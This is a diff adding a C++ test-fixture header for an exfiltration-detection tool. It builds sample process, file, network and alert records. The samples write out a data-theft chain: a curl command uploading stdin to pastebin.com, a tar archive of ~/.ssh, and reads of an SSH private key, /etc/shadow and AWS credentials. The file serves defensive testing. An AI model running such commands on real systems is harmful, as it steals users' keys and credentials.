@@ -1,0 +1,139 @@
+// Sample records of every kind, shared by the ECS tests (which also write them out for the
+// schema validator) and the replay round-trip tests.
+#pragma once
+
+#include <string>
+#include <vector>
+
+#include "events.hpp"
+#include "output/ecs.hpp"
+
+namespace exfilwatch::samples {
+
+inline constexpr TimeNs t0 = 1795920551ULL * 1'000'000'000ULL + 123456789ULL;  // 2026-11-29T02:49:11.123456789Z
+
+inline ProcessRef process(std::uint32_t pid = 4242)
+{
+    ProcessRef p;
+    p.pid = pid;
+    p.entity_id = "b1946ac9-4242-1795920500000000000";
+    p.ppid = 4200;
+    p.parent_entity_id = "b1946ac9-4200-1795920400000000000";
+    p.pgid = 4242;
+    p.sid = 4000;
+    p.uid = 1000;
+    p.executable = "/usr/bin/curl";
+    p.name = "curl";
+    p.args = {"curl", "-T", "-", "https://pastebin.com:8443/", "-H", "X-Note: caf\xC3\xA9 \"quoted\"\n"};
+    p.args_truncated = false;
+    p.has_tty = true;
+    p.cgroup_id = 12345;
+    p.container_id = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
+    p.pod_uid = "6b8d7e3c-1111-2222-3333-444455556666";
+    p.start_time = t0 - 5'000'000'000ULL;
+    return p;
+}
+
+// A process that exercises the corners: non-UTF-8 bytes, no container, empty fields.
+inline ProcessRef odd_process()
+{
+    ProcessRef p;
+    p.pid = 7;
+    p.entity_id = "e-7";
+    p.name = "t\xFFol";
+    p.executable = "/tmp/\xC0\xAF\x01tool";
+    p.args = {"t\xFFol", "", "--password", "hunter2", std::string("nul\0byte", 8)};
+    p.args_truncated = true;
+    return p;
+}
+
+inline std::vector<Event> events()
+{
+    std::vector<Event> out;
+    out.push_back(ExecEvent{t0, process()});
+    out.push_back(ExecEvent{t0 + 1, odd_process()});
+    out.push_back(ForkEvent{t0 + 2, process(4243)});
+    out.push_back(ExitEvent{t0 + 3, process(), 130});
+    out.push_back(ExitEvent{t0 + 4, odd_process(), -1});
+    out.push_back(FileOpenEvent{t0 + 5, process(), "/home/alice/.ssh/id_ed25519", ".ssh/id_ed25519", 3, 0x80000, 1311, 2049, 0});
+    out.push_back(FileOpenEvent{t0 + 6, process(), "/etc/shadow", "/etc/shadow", -1, 0, 0, 0, 13});
+    out.push_back(FileOpenEvent{t0 + 7, odd_process(), "/x\xFF", "", -1, 0x241, 0, 0, 4000});
+    out.push_back(FileSummaryEvent{t0 + 8, process(), "/home/alice/.aws/credentials", 99, 2049, 4096, 8192, true});
+    out.push_back(ConnectEvent{t0 + 9, process(), {77}, Transport::tcp, false, {"10.0.0.2", 40000},
+                               {"127.0.0.1", 8443}, "pastebin.com", 555});
+    out.push_back(ConnectEvent{t0 + 10, process(), {18446744073709551615ULL}, Transport::udp, true, {"", 0},
+                               {"2001:db8::1", 53}, "", 0});
+    out.push_back(TlsClientHelloEvent{t0 + 11, process(), {77}, {"127.0.0.1", 8443}, "pastebin.com", {"h2", "http/1.1"}, 0x0304});
+    out.push_back(TlsClientHelloEvent{t0 + 12, process(), {78}, {"", 0}, "", {}, 0x7f1c});
+    out.push_back(DnsAnswerEvent{t0 + 13, process(), {79}, "www.pastebin.com", {"pastebin.com", "cdn.example.net"},
+                                 {"104.20.1.1", "2606:4700::6812:1"}});
+    out.push_back(DnsAnswerEvent{t0 + 14, process(), {80}, "nx.example", {}, {}});
+    out.push_back(HttpRequestEvent{t0 + 15, process(), {81}, {"127.0.0.1", 8080}, "PUT", "pastebin.com", "/api/upload", ""});
+    out.push_back(HttpRequestEvent{t0 + 16, process(), {82}, {"127.0.0.1", 3128}, "CONNECT", "transfer.sh", "", "transfer.sh:443"});
+    out.push_back(FlowSummaryEvent{t0 + 17, process(), {77}, Transport::tcp, {"10.0.0.2", 40000}, {"127.0.0.1", 8443},
+                                   "pastebin.com", "sni", 1048576, 512, true});
+    out.push_back(FlowSummaryEvent{t0 + 18, odd_process(), {83}, Transport::udp, {}, {"::1", 53}, "", "", 0, 0, false});
+    return out;
+}
+
+inline Alert alert()
+{
+    Alert a;
+    a.time = t0 + 100;
+    a.risk_score = 87;
+    a.rule_name = "sensitive-file-to-paste-site";
+    a.reason = "curl uploaded 1.0 MiB to pastebin.com after tar read ~/.ssh/id_ed25519";
+    a.technique_id = "T1567";
+    a.subtechnique_id = "T1567.003";
+    a.category = "paste";
+    a.process = process();
+    ProcessRef tar = process(4241);
+    tar.name = "tar";
+    tar.executable = "/usr/bin/tar";
+    tar.args = {"tar", "czf", "-", "/home/alice/.ssh"};
+    ProcessRef shell = odd_process();
+    a.chain = {shell, tar, process()};
+    a.destination = {"127.0.0.1", 8443};
+    a.destination_domain = "pastebin.com";
+    a.bytes_out = 1048576;
+    a.bytes_in = 512;
+    a.files = {{"/home/alice/.ssh/id_ed25519", "ssh-key", 411}, {"/tmp/x.tgz", "", 1048576}};
+    a.signals = {{"sensitive-read", 40, "tar read /home/alice/.ssh/id_ed25519 (ssh-key)"},
+                 {"paste-destination", 30, "SNI pastebin.com"},
+                 {"volume", 17, "1048576 bytes out"}};
+    return a;
+}
+
+inline output::MonitorState started()
+{
+    output::MonitorState s;
+    s.time = t0 - 1'000'000'000ULL;
+    s.action = output::StateAction::started;
+    s.version = "0.1.0";
+    s.hooks = {{"tp_btf/sched_process_exec", true, ""},
+               {"uprobe/libssl.so.3:SSL_write", false, "libssl.so.3 not found"}};
+    s.rules_source = "built-in";
+    s.events = "all";
+    s.mode = "run";
+    s.processes_scanned = 312;
+    return s;
+}
+
+inline output::MonitorState stopped()
+{
+    output::MonitorState s;
+    s.time = t0 + 1'000'000'000ULL;
+    s.action = output::StateAction::stopped;
+    s.version = "0.1.0";
+    s.mode = "run";
+    s.reason = "SIGINT";
+    return s;
+}
+
+inline output::Metrics metrics()
+{
+    return {t0 + 500, {{"events.exec", 12}, {"kernel.drops.ringbuf_full", 0}, {"processes.live", 310},
+                       {"alerts", 1}, {"output.dropped_lines", 0}}};
+}
+
+}  // namespace exfilwatch::samples
